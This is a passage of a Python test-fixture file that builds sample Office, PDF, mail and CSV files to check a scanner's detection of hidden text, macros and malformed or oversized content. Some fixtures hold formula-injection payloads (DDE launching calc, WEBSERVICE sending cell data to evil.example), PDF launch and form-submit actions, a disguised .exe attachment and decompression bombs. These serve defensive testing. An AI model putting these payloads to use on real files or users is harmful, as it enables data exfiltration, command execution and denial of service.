        partial(office, word(run("SEEN") + f'<w:p><w:fldSimple w:instr="{_code}"/></w:p>')),
        "a.docx",
        seen=("SEEN",),
        flags=(_flag,),
    )
add("word flag: signed", partial(office, word(more={"_xmlsignatures/sig1.xml": b"<x/>"})), "a.docx", flags=("signed",))
add("word flag: vbaProject.bin", partial(office, word(more={"word/vbaProject.bin": b"x"})), "a.docm", flags=("macros",))
for _title, _text, _flag in (
    ("bidi", "a\u202eb", "bidi-controls"),
    ("tags", "a\U000e0041\U000e0042", "hidden-text"),
    ("zero width", "ig\u200bnore", "zero-width"),
):
    add(f"word flag: {_title}", partial(office, word(run(f"SEEN {_text}"))), "a.docx", seen=("SEEN",), flags=(_flag,))
    add(f"text flag: {_title}", partial(lambda t: f"SEEN {t}".encode(), _text), "a.txt", seen=("SEEN",), flags=(_flag,))
add(
    "text control: emoji and Persian",
    lambda: (
        "SEEN \U0001f468\u200d\U0001f469\u200d\U0001f467 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f".encode()
    ),
    "a.md",
    seen=("SEEN",),
    unflagged=True,
)

# --- Excel -----------------------------------------------------------------------------------------------------------

_SEEN = '<row r="1">' + cell("SEEN") + "</row>"
_WHITE = '<color rgb="FFFFFFFF"/>'
_RED = '<fill><patternFill patternType="solid"><fgColor rgb="FFFF0000"/></patternFill></fill>'
_STYLED = '<row r="2">' + cell("SECRET", "A2", 's="1"') + "</row>"
for _title, _parts in {
    "row": excel(_SEEN + '<row r="2" hidden="1">' + cell("SECRET", "A2") + "</row>"),
    "row of no height": excel(_SEEN + '<row r="2" ht="0" customHeight="1">' + cell("SECRET", "A2") + "</row>"),
    "column": excel(
        '<row r="1">' + cell("SEEN") + cell("SECRET", "B1") + "</row>",
        before='<cols><col min="2" max="2" hidden="1"/></cols>',
    ),
    "column of no width": excel(
        '<row r="1">' + cell("SEEN") + cell("SECRET", "B1") + "</row>",
        before='<cols><col min="2" max="2" width="0" customWidth="1"/></cols>',
    ),
    "white font": excel(_SEEN + _STYLED, styles=styled(_WHITE)),
    "white by theme": excel(_SEEN + _STYLED, styles=styled('<color theme="0"/>')),
    "near white": excel(_SEEN + _STYLED, styles=styled('<color rgb="FFF8F8F8"/>')),
    "red on red": excel(_SEEN + _STYLED, styles=styled('<color rgb="FFFE0101"/>', _RED)),
    "tiny font": excel(_SEEN + _STYLED, styles=styled('<sz val="1"/>')),
    "format of nothing": excel(_SEEN + _STYLED, styles=styled(code=";;;")),
    "format in white": excel(_SEEN + _STYLED, styles=styled(code="[White]General")),
    "name": excel(book='<definedNames><definedName name="x" hidden="1">"SECRET"</definedName></definedNames>'),
    "page header": excel(after="<headerFooter><oddHeader>&amp;CSECRET</oddHeader></headerFooter>"),
    "custom XML": excel(more={"customXml/item1.xml": b"<x>SECRET</x>"}),
    "external values": excel(
        more={
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}"><cell><v>SECRET</v></cell></externalLink>'.encode()
        }
    ),
}.items():
    add(f"excel hidden: {_title}", partial(office, _parts), "a.xlsx", hidden=("SECRET",), seen=("SEEN",))
for _state in ("hidden", "veryHidden"):
    add(
        f"excel hidden: {_state} sheet",
        partial(office, excel(_SEEN.replace("SEEN", "SECRET"), state=f'state="{_state}"')),
        "a.xlsx",
        hidden=("SECRET",),
        flags=("hidden-sheets",),
    )
for _title, _parts in {
    "plain": excel(),
    "white on red": excel(_SEEN.replace('r="A1"', 'r="A1" s="1"'), styles=styled(_WHITE, _RED)),
    "formulas": excel(
        _SEEN
        + '<row r="2"><c r="A2"><f>SUM(A1:A1)</f><v>1</v></c><c r="B2" t="str"><f>HYPERLINK("https://example.com","x")</f><v>x</v></c></row>'
    ),
    "text that starts like a formula": excel(
        _SEEN + '<row r="2">' + cell("=SUM(A1:A2) adds", "A2") + cell("-5", "B2") + "</row>"
    ),
    "negative format": excel(_SEEN.replace('r="A1"', 'r="A1" s="1"'), styles=styled(code="0;[Red]-0;;@")),
}.items():
    add(f"excel control: {_title}", partial(office, _parts), "a.xlsx", seen=("SEEN",), unflagged=True)
for _formula in (
    "cmd|'/c calc'!A0",
    'WEBSERVICE("http://evil.example/"&amp;A1)',
    'HYPERLINK("http://evil.example/?"&amp;A1,"x")',
    'EXEC("calc")',
    'CALL("Kernel32","WinExec","JCJ","calc",0)',
    'RTD("x",,"y")',
):
    add(
        f"excel flag: {_formula[:14]}",
        partial(office, excel(_SEEN + f'<row r="2"><c r="A2"><f>{_formula}</f><v>1</v></c></row>')),
        "a.xlsx",
        seen=("SEEN",),
        flags=("formula-injection",),
    )
add(
    "excel flag: defined name with DDE",
    partial(office, excel(book="<definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames>")),
    "a.xlsx",
    flags=("formula-injection",),
)
for _kind, _target, _flag in (
    ("externalLink", "externalLinks/e1.xml", "external-workbooks"),
    ("connections", "connections.xml", "connections"),
    ("vbaProject", "vbaProject.bin", "macros"),
    ("xlMacrosheet", "macrosheets/s.xml", "macros"),
):
    add(
        f"excel flag: {_kind}",
        partial(office, excel(more={"xl/worksheets/_rels/sheet1.xml.rels": rels(("x", _kind, _target))})),
        "a.xlsm",
        seen=("SEEN",),
        flags=(_flag,),
    )
add(
    "excel flag: web query",
    partial(
        office,
        excel(
            more={
                "xl/connections.xml": b'<connections><connection><webPr url="http://evil.example"/></connection></connections>'
            }
        ),
    ),
    "a.xlsx",
    flags=("web-queries",),
)
for _title, _after in {
    "merge of the whole sheet": '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    "validation of the whole sheet": '<dataValidations><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a"</formula1></dataValidation></dataValidations>',
    "conditional format of the whole sheet": '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>',
    "100,000 merges": "<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 100_000 + "</mergeCells>",
}.items():
    add(f"excel range: {_title}", partial(office, excel(after=_after)), "a.xlsx", seen=("SEEN",))
add(
    "excel range: huge dimension",
    partial(
        office,
        excel(
            _SEEN + '<row r="1048576">' + cell("last", "XFD1048576") + "</row>",
            before='<dimension ref="A1:XFD1048576"/>',
        ),
    ),
    "a.xlsx",
    seen=("SEEN",),
)
add(
    "excel range: hidden columns to the end",
    partial(office, excel(before="<cols>" + '<col min="3" max="16384" hidden="1"/>' * 2000 + "</cols>")),
    "a.xlsx",
    seen=("SEEN",),
)
add(
    "excel: array formula over a million cells",
    partial(office, excel(_SEEN + '<row r="2"><c r="A2"><f t="array" ref="A2:XFD1048576">A1</f><v>1</v></c></row>')),
    "a.xlsx",
    seen=("SEEN",),
)
add(
    "excel: shared formula over a million cells",
    partial(office, excel(_SEEN + '<row r="2"><c r="A2"><f t="shared" si="0" ref="A2:A1048576">A1</f></c></row>')),
    "a.xlsx",
    seen=("SEEN",),
)
add(
    "excel: names that name each other",
    partial(
        office,
        excel(
            _SEEN + '<row r="2"><c r="A2"><f>a30</f></c></row>',
            book="<definedNames>"
            + "".join(f'<definedName name="a{n}">a{n - 1}+a{n - 1}</definedName>' for n in range(1, 31))
            + "</definedNames>",
        ),
    ),
    "a.xlsx",
    seen=("SEEN",),
)
for _formula in (
    'REPT("x",1000000000)',
    "SEQUENCE(1048576,16384)",
    "SUM(A:XFD)",
    "SUMPRODUCT(A1:XFD1048576*A1:XFD1048576)",
    "MMULT(SEQUENCE(9999,9999),SEQUENCE(9999,9999))",
    'REPT(REPT("x",32767),32767)',
):
    add(
        f"excel: {_formula[:24]}",
        partial(office, excel(_SEEN + f'<row r="2"><c r="B2"><f>{_formula.replace(chr(34), "&quot;")}</f></c></row>')),
        "a.xlsx",
        seen=("SEEN",),
    )
add(
    "excel: formula that refers to itself",
    partial(office, excel(_SEEN + '<row r="2"><c r="A2"><f>A2+1</f></c></row>')),
    "a.xlsx",
    seen=("SEEN",),
)
add(
    "excel: a very long formula",
    partial(office, excel(_SEEN + f'<row r="2"><c r="A2"><f>{"(" * 20_000}1{")" * 20_000}</f></c></row>')),
    "a.xlsx",
    seen=("SEEN",),
)
add(
    "excel: shared string index out of range",
    partial(office, excel(_SEEN + '<row r="2"><c r="A2" t="s"><v>999999999</v></c></row>')),
    "a.xlsx",
    "broken",
)
add(
    "excel: no sheets",
    partial(office, {**excel(), "xl/workbook.xml": f'<workbook xmlns="{S}"/>'.encode()}),
    "a.xlsx",
    "broken",
)

# --- PowerPoint ------------------------------------------------------------------------------------------------------

_WHITE_RUN = '<a:rPr><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill></a:rPr>'
_DARK = '<a:solidFill><a:srgbClr val="102030"/></a:solidFill>'
_AWAY = '<a:off x="90000000" y="0"/><a:ext cx="100000" cy="100000"/>'
for _title, _shapes in {
    "hidden shape": shape("SECRET", shown='hidden="1"'),
    "off the slide": shape("SECRET", box=_AWAY),
    "left of the slide": shape("SECRET", box='<a:off x="-5000000" y="0"/><a:ext cx="100000" cy="100000"/>'),
    "no size": shape("SECRET", box='<a:off x="1000" y="1000"/><a:ext cx="0" cy="0"/>'),
    "white": shape("SECRET", look=_WHITE_RUN, box='<a:off x="100" y="5000000"/><a:ext cx="3000000" cy="900000"/>'),
    "theme white": shape("SECRET", look='<a:rPr><a:solidFill><a:schemeClr val="bg1"/></a:solidFill></a:rPr>'),
    "colour of its shape": shape(
        "SECRET", look='<a:rPr><a:solidFill><a:srgbClr val="112131"/></a:solidFill></a:rPr>', fill=_DARK
    ),
    "transparent": shape(
        "SECRET",
        look='<a:rPr><a:solidFill><a:srgbClr val="000000"><a:alpha val="0"/></a:srgbClr></a:solidFill></a:rPr>',
    ),
    "no fill": shape("SECRET", look="<a:rPr><a:noFill/></a:rPr>"),
    "tiny": shape("SECRET", look='<a:rPr sz="100"/>'),
    "group off the slide": '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/></p:nvGrpSpPr><p:grpSpPr><a:xfrm><a:off x="90000000" y="0"/><a:ext cx="100" cy="100"/><a:chOff x="0" y="0"/><a:chExt cx="100" cy="100"/></a:xfrm></p:grpSpPr>'
    + shape("SECRET")
    + "</p:grpSp>",
    "hidden group": '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g" hidden="1"/></p:nvGrpSpPr><p:grpSpPr/>'
    + shape("SECRET")
    + "</p:grpSp>",
    "alternative text": '<p:pic><p:nvPicPr><p:cNvPr id="3" name="x" descr="SECRET"/></p:nvPicPr></p:pic>',
}.items():
    add(
        f"powerpoint hidden: {_title}",
        partial(office, slide(shape("SEEN") + _shapes)),
        "a.pptx",
        hidden=("SECRET",),
        seen=("SEEN",),
    )
add(
    "powerpoint hidden: slide",
    partial(office, slide(shape("SECRET"), 'show="0"')),
    "a.pptx",
    hidden=("SECRET",),
    flags=("hidden-slides",),
)
_NOTES = (
    f'<p:notes xmlns:p="{P}" xmlns:a="{A}"><p:cSld><p:spTree>'
    + shape("SECRET").replace("<p:nvPr/>", '<p:nvPr><p:ph type="body" idx="1"/></p:nvPr>')
    + "</p:spTree></p:cSld></p:notes>"
)
add(
    "powerpoint hidden: notes",
    partial(
        office,
        slide(
            shape("SEEN"),
            more={
                "ppt/notesSlides/n1.xml": _NOTES.encode(),
                "ppt/slides/_rels/slide1.xml.rels": rels(("n", "notesSlide", "../notesSlides/n1.xml")),
            },
        ),
    ),
    "a.pptx",
    hidden=("SECRET",),
    seen=("SEEN",),
)
for _title, _shapes in {
    "plain": shape("SEEN"),
    "white on dark": shape("SEEN", look=_WHITE_RUN, fill=_DARK),
    "white over a dark shape": shape("", fill=_DARK) + shape("SEEN", look=_WHITE_RUN),
    "small print": shape("SEEN", look='<a:rPr sz="800"/>'),
    "partly off": shape("SEEN", box='<a:off x="-100" y="-100"/><a:ext cx="3000000" cy="900000"/>'),
}.items():
    add(f"powerpoint control: {_title}", partial(office, slide(_shapes)), "a.pptx", seen=("SEEN",), unflagged=True)
for _kind, _target, _flag in (
    ("image", "!http://evil.example/x.png", "remote-images"),
    ("video", "!http://evil.example/x.mp4", "external-relationships"),
    ("oleObject", "../embeddings/o.bin", "ole-objects"),
    ("control", "../activeX/a.xml", "activex"),
):
    add(
        f"powerpoint flag: {_kind} {_target[:5]}",
        partial(office, slide(shape("SEEN"), more={"ppt/slides/_rels/slide1.xml.rels": rels(("x", _kind, _target))})),
        "a.pptx",
        seen=("SEEN",),
        flags=(_flag,),
    )
_SAME_SLIDE = '<p:sldId r:id="r1"/>'
add(
    "powerpoint: layout that is its own layout",
    partial(
        office,
        slide(
            shape("SEEN"),
            more={
                "ppt/slides/_rels/slide1.xml.rels": rels(
                    ("x", "slideLayout", "slide1.xml"), ("y", "slideMaster", "slide1.xml")
                )
            },
        ),
    ),
    "a.pptx",
    seen=("SEEN",),
)
add(
    "powerpoint: the same slide a thousand times",
    partial(
        office,
        {
            **slide(shape("SEEN")),
            "ppt/presentation.xml": f'<p:presentation xmlns:p="{P}" xmlns:r="{R}"><p:sldIdLst>{_SAME_SLIDE * 1000}</p:sldIdLst></p:presentation>'.encode(),
        },
    ),
    "a.pptx",
    seen=("SEEN",),
)

# --- PDF -------------------------------------------------------------------------------------------------------------

_TEXT = "BT /F1 11 Tf 72 600 Td (SECRET) Tj ET"
_OFF = {"catalog": "/OCProperties << /OCGs [4 0 R] /D << /OFF [4 0 R] >> >>", "objects": ["<< /Type /OCG /Name (x) >>"]}


def layered(text: str) -> bytes:
    made = pdf([lines("SEEN") + text], **_OFF)  # type: ignore[arg-type]
    return made.replace(b"/Font << /F1 3 0 R >>", b"/Font << /F1 3 0 R >> /Properties << /L 4 0 R >>")


def formed(inner: str) -> bytes:
    made = f"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Length {len(inner)} >>\nstream\n{inner}\nendstream"
    return pdf([lines("SEEN") + "/X Do"], objects=[made]).replace(
        b"/Font << /F1 3 0 R >> >> /Contents", b"/Font << /F1 3 0 R >> /XObject << /X 4 0 R >> >> /Contents"
    )


for _title, _stream in {
    "invisible mode": "BT /F1 11 Tf 3 Tr 72 600 Td (SECRET) Tj ET",
    "clipping mode": "BT /F1 11 Tf 7 Tr 72 600 Td (SECRET) Tj ET",
    "white": "1 g " + _TEXT,
    "near white": "0.97 0.97 0.98 rg " + _TEXT,
    "no ink": "0 0 0 0 k " + _TEXT,
    "red on red": "1 0 0 rg 60 590 300 40 re f " + _TEXT,
    "under a box": _TEXT + " 0 g 60 590 300 40 re f",
    "tiny": "BT /F1 1 Tf 72 600 Td (SECRET) Tj ET",
    "two points": "BT /F1 2 Tf 72 600 Td (SECRET) Tj ET",
    "squeezed": "BT /F1 11 Tf 0 Tz 72 600 Td (SECRET) Tj ET",
    "below the page": "BT /F1 11 Tf 72 -300 Td (SECRET) Tj ET",
    "left of the page": "BT /F1 11 Tf -900 600 Td (SECRET) Tj ET",
    "clipped": "q 0 0 10 10 re W n " + _TEXT + " Q",
}.items():
    add(
        f"pdf hidden: {_title}",
        partial(pdf, [lines("SEEN") + _stream]),
        "a.pdf",
        hidden=("SECRET",),
        seen=("SEEN",),
        flags=("hidden-text",),
    )
add(
    "pdf hidden: layer that is off",
    partial(layered, f"/OC /L BDC {_TEXT} EMC"),
    "a.pdf",
    hidden=("SECRET",),
    seen=("SEEN",),
)
add("pdf hidden: white in a form", partial(formed, "1 g " + _TEXT), "a.pdf", hidden=("SECRET",), seen=("SEEN",))
add(
    "pdf control: text in a form",
    partial(formed, _TEXT.replace("SECRET", "SEEN TOO")),
    "a.pdf",
    seen=("SEEN", "SEEN TOO"),
    unflagged=True,
)
for _title, _stream in {
    "plain": lines("SEEN"),
    "white on blue": "0 0 0.5 rg 60 590 300 40 re f 1 g " + _TEXT.replace("SECRET", "SEEN"),
    "box behind": "0.9 g 60 590 300 40 re f 0 g " + _TEXT.replace("SECRET", "SEEN"),
    "clipped around": "q 0 0 595 842 re W n " + _TEXT.replace("SECRET", "SEEN") + " Q",
}.items():
    add(f"pdf control: {_title}", partial(pdf, [_stream]), "a.pdf", seen=("SEEN",), unflagged=True)
_JS = "<< /S /JavaScript /JS (x) >>"
for _title, _catalog, _flag in (
    ("script at opening", f"/OpenAction {_JS}", "javascript"),
    ("named script", "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "javascript"),
    ("script behind another action", f"/OpenAction << /S /GoTo /Next {_JS} >>", "javascript"),
    ("launch", "/OpenAction << /S /Launch /F (calc.exe) >>", "launch-actions"),
    ("form that is sent", "/OpenAction << /S /SubmitForm /F (http://evil.example) >>", "external-actions"),
    ("embedded file", "/Names << /EmbeddedFiles << /Names [] >> >>", "embedded-files"),
    ("script when closing", f"/AA << /WC {_JS} >>", "javascript"),
):
    add(
        f"pdf flag: {_title}",
        partial(pdf, [lines("SEEN")], catalog=_catalog, objects=[_JS]),
        "a.pdf",
        seen=("SEEN",),
        flags=(_flag,),
    )


def encrypted(password: str) -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(pdf([lines("SEEN")])))
    writer.encrypt(password, "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def streamed(data: bytes, filters: str, length: int | None = None) -> bytes:
    """A PDF whose page content is this stream."""
    body = b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (
        len(data) if length is None else length,
        filters.encode(),
        data,
    )
    return swapped(body)


def swapped(body: bytes, number: int = 5, before: str = "x") -> bytes:
    """A PDF with object `number` (its content stream) replaced; its cross-reference table is left wrong."""
    made = pdf([lines("SEEN")])
    start = made.index(b"%d 0 obj" % number) + len(b"%d 0 obj\n" % number)
    return made[:start] + body + made[made.index(b"\nendobj", start) :]


def squeezed(times: int) -> bytes:
    """A flate stream of so many zeros, made piece by piece."""
    deflater = zlib.compressobj(9)
    return b"".join(deflater.compress(b"0 " * 65_536) for _ in range(times >> 16)) + deflater.flush()


add("pdf encrypted with an empty password", partial(encrypted, ""), "a.pdf", seen=("SEEN",), flags=("encrypted",))
add("pdf encrypted with an unknown password", partial(encrypted, "x"), "a.pdf", "encrypted")
add("pdf flate bomb", lambda: streamed(squeezed(100 << 20), "/FlateDecode"), "a.pdf")
add("pdf chain of flate", lambda: streamed(zlib.compress(squeezed(50 << 20), 9), "/FlateDecode /FlateDecode"), "a.pdf")
add("pdf run length bomb", lambda: streamed(b"\x81 " * 2_000_000 + b"\x80", "/RunLengthDecode"), "a.pdf")
add("pdf a thousand filters", lambda: streamed(b"x", "/ASCIIHexDecode " * 1000), "a.pdf")
add("pdf huge length", lambda: streamed(b"BT ET", "", 2_000_000_000), "a.pdf")
add(
    "pdf kids that are their parents",
    lambda: swapped(b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>", 2),
    "a.pdf",
    "broken",
)
add("pdf page without end", lambda: swapped(b"<< /Type /Pages /Kids [4 0 R] /Count 2000000000 >>", 2), "a.pdf")
add("pdf reference to itself", lambda: swapped(b"5 0 R"), "a.pdf")
add("pdf no catalog", lambda: swapped(b"null", 1), "a.pdf", "broken")
add("pdf deep arrays", lambda: swapped(b"[" * 200_000 + b"]" * 200_000), "a.pdf")
add(
    "pdf xref loop",
    lambda: (c := pdf([lines("SEEN")])).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % c.rindex(b"xref\n0")),
    "a.pdf",
)
add("pdf cut", lambda: pdf([lines("SEEN")])[:300], "a.pdf", "broken")
add("pdf header only", lambda: b"%PDF-1.7\n%%EOF", "a.pdf", "broken")
add("pdf broken header", lambda: b"junk\n" + pdf([lines("SEEN")]), "a.pdf")
add("pdf hidden: earlier version", lambda: updated(), "a.pdf", hidden=("SECRET",), seen=("SEEN",))


def updated() -> bytes:
    old = pdf(["BT /F1 11 Tf 72 700 Td (SECRET) Tj ET"])
    stream = b"BT /F1 11 Tf 72 700 Td (SEEN) Tj ET"
    body = b"5 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(stream), stream)
    table = b"xref\n5 1\n%010d 00000 n \ntrailer << /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return old + body + table % (len(old), old.rindex(b"xref\n0"), len(old) + len(body))


def object_stream() -> bytes:
    inner = squeezed(60 << 20)
    body = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(inner),
        inner,
    )
    return swapped(body)


add("pdf object stream bomb", object_stream, "a.pdf")

# --- mail, text, CSV -----------------------------------------------------------------------------------------------


def mail(body: str, kind: str = "text/plain", headers: str = "") -> bytes:
    return f"From: Ann <a@example.com>\r\nTo: b@example.com\r\nSubject: SEEN\r\nMIME-Version: 1.0\r\n{headers}Content-Type: {kind}; charset=utf-8\r\n\r\n{body}".encode()


def multipart(*parts: str, kind: str = "mixed", headers: str = "") -> bytes:
    body = "".join(f"--B\r\n{part}\r\n" for part in parts) + "--B--\r\n"
    return f'From: a@example.com\r\nSubject: SEEN\r\n{headers}MIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary="B"\r\n\r\n{body}'.encode()


def attached(data: bytes, name: str, kind: str = "application/octet-stream") -> str:
    coded = base64.encodebytes(data).decode()
    return f'Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\n{coded}'


add("mail control: plain", partial(mail, "SEEN body"), "a.eml", seen=("SEEN", "SEEN body", "Ann"), unflagged=True)
add(
    "mail control: coded subject",
    lambda: mail("x").replace(b"Subject: SEEN", b"Subject: =?utf-8?q?SEEN?="),
    "a.eml",
    seen=("SEEN",),
    unflagged=True,
)
add(
    "mail control: alternative",
    partial(
        multipart,
        "Content-Type: text/plain\r\n\r\nSEEN one",
        "Content-Type: text/html\r\n\r\n<p>SEEN <b>one</b></p>",
        kind="alternative",
    ),
    "a.eml",
    seen=("SEEN one",),
    unflagged=True,
)
add(
    "mail control: link",
    partial(mail, '<p>SEEN <a href="https://example.com/x">here</a></p>', "text/html"),
    "a.eml",
    seen=("https://example.com/x",),
    unflagged=True,
)
for _title, _html in {
    "display": '<p style="display:none">SECRET</p>',
    "visibility": '<p style="visibility: hidden">SECRET</p>',
    "font size": '<span style="font-size:0px">SECRET</span>',
    "one pixel": '<span style="font-size:1px">SECRET</span>',
    "opacity": '<div style="opacity:0">SECRET</div>',
    "white": '<font color="#ffffff">SECRET</font>',
    "white by rgb": '<i style="color:rgb(255,255,254)">SECRET</i>',
    "colour of its background": '<div style="background-color:#112233"><b style="color:#112234">SECRET</b></div>',
    "off the screen": '<div style="position:absolute;left:-9999px">SECRET</div>',
    "indent": '<p style="text-indent:-9999px">SECRET</p>',
    "no height": '<div style="height:0;overflow:hidden">SECRET</div>',
    "mso-hide": '<div style="mso-hide:all">SECRET</div>',
    "hidden attribute": "<p hidden>SECRET</p>",
    "style sheet": "<style>.x, p.q { display : none }</style><p class='a x'>SECRET</p>",
    "comment": "<!-- SECRET -->",
    "title": "<title>SECRET</title>",
    "template": "<template>SECRET</template>",
    "alternative text": '<img src="cid:1" alt="SECRET">',
    "nested": '<div style="display:none"><table><tr><td><p style="display:block">SECRET</p></td></tr></table></div>',
}.items():
    add(
        f"mail hidden: {_title}",
        partial(mail, f"<html><body><p>SEEN</p>{_html}<p>SEEN AFTER</p></body></html>", "text/html"),
        "a.eml",
        hidden=("SECRET",),
        seen=("SEEN", "SEEN AFTER"),
    )
add(
    "mail hidden: plain twin",
    partial(
        multipart,
        "Content-Type: text/plain\r\n\r\nSECRET",
        "Content-Type: text/html\r\n\r\n<p>SEEN</p>",
        kind="alternative",
    ),
    "a.eml",
    hidden=("SECRET",),
    seen=("SEEN",),
)
add("mail hidden: header", partial(mail, "x", headers="X-Note: SECRET\r\n"), "a.eml", hidden=("SECRET",))
add(
    "mail hidden: preamble",
    lambda: multipart("Content-Type: text/plain\r\n\r\nSEEN").replace(b"\r\n\r\n--B", b"\r\n\r\nSECRET\r\n--B", 1),
    "a.eml",
    hidden=("SECRET",),
    seen=("SEEN",),
)
add(
    "mail flag: remote image",
    partial(mail, '<p>SEEN<img src="http://evil.example/p.png?id=1"></p>', "text/html"),
    "a.eml",
    hidden=("http://evil.example/p.png?id=1",),
    seen=("SEEN",),
    flags=("remote-images",),
)
add(
    "mail flag: script",
    partial(mail, "<script>SECRET</script><p>SEEN</p>", "text/html"),
    "a.eml",
    hidden=("SECRET",),
    seen=("SEEN",),
    flags=("javascript",),
)
add(
    "mail flag: program",
    partial(multipart, "Content-Type: text/plain\r\n\r\nSEEN", attached(b"MZ" + bytes(99), "invoice.pdf.exe")),
    "a.eml",
    seen=("invoice.pdf.exe",),
    flags=("program-attachments",),
)
add(
    "mail: attached document",
    lambda: multipart(
        "Content-Type: text/plain\r\n\r\nSEEN",
        attached(office(word(run("SEEN INSIDE") + run("SECRET", "<w:vanish/>"))), "a.docx"),
    ),
    "a.eml",
    seen=("SEEN", "SEEN INSIDE"),
    hidden=("SECRET",),
)
add(
    "mail: attached bomb",
    lambda: multipart("Content-Type: text/plain\r\n\r\nSEEN", attached(bomb(200 << 20), "a.docx")),
    "a.eml",
    seen=("SEEN", "a.docx"),
)
add(
    "mail: attached mail",
    lambda: multipart(
        "Content-Type: text/plain\r\n\r\nSEEN", "Content-Type: message/rfc822\r\n\r\n" + mail("SEEN INSIDE").decode()
    ),
    "a.eml",
    seen=("SEEN INSIDE",),
)
add("mail: mails in mails", lambda: nested_mail(3000), "a.eml", "too_large", "broken")
add("mail: multiparts in multiparts", lambda: nested_parts(400), "a.eml", "too_large")
add("mail: thousands of parts", lambda: multipart(*["Content-Type: text/plain\r\n\r\nx"] * 3000), "a.eml", "too_large")
add("mail: header of megabytes", lambda: mail("x", headers=f"X-A: {'a' * 1_000_000}\r\n"), "a.eml", "too_large")
add(
    "mail: deep comments in an address",
    lambda: mail("SEEN", headers="Cc: " + "(" * 5000 + "\r\n"),
    "a.eml",
    seen=("SEEN",),
)
add("mail: deep HTML", lambda: mail("<div>" * 100_000 + "SEEN", "text/html"), "a.eml", seen=("SEEN",))
add("mail: unknown charset", lambda: mail("SEEN").replace(b"utf-8", b"x-evil"), "a.eml", seen=("SEEN",))
add(
    "mail: bad base64",
    partial(
        multipart,
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!",
        "Content-Type: text/plain\r\n\r\nSEEN",
    ),
    "a.eml",
    seen=("SEEN",),
)
add("mail: encrypted", partial(mail, "x", "application/pkcs7-mime; smime-type=enveloped-data"), "a.eml", "encrypted")
add("mail: no mail at all", lambda: b"hello\n", "a.eml", "broken")


def nested_mail(depth: int) -> bytes:
    return b"Subject: SEEN\r\nContent-Type: message/rfc822\r\n\r\n" * depth + b"x"


def nested_parts(depth: int) -> bytes:
    return b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth)
    ).replace(b"Content", b"Subject: x\r\nContent", 1)


for _value in (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"=HYPERLINK(""http://evil.example"")"',
    "\t=1+1",
):
    add(
        f"csv flag: {_value[:14]}",
        partial(lambda v: f"name,x\nSEEN,{v}\n".encode(), _value),
        "a.csv",
        seen=("SEEN",),
        flags=("formula-injection",),
    )
for _value in ("-5", "+49 30 1234", "- item", "@ann", "-1.5e3", "a=b", "+49 (30) 12", "-"):
    add(
        f"csv control: {_value}",
        partial(lambda v: f"name,x\nSEEN,{v}\n".encode(), _value),
        "a.csv",
        seen=("SEEN",),
        unflagged=True,
    )
add("csv: one field of megabytes", lambda: b'a,b\nSEEN,"' + b"x" * 3_000_000, "a.csv", seen=("SEEN",))
add("text: a line of megabytes", lambda: b"SEEN " + b"x" * 5_000_000, "a.txt", seen=("SEEN",))
add("text: bytes of no encoding", lambda: b"SEEN \xff\xfe\x81", "a.txt", seen=("SEEN",))
add("markdown control", lambda: b"# SEEN\n\n- a\n\n[x](https://example.com)\n", "a.md", seen=("SEEN",), unflagged=True)
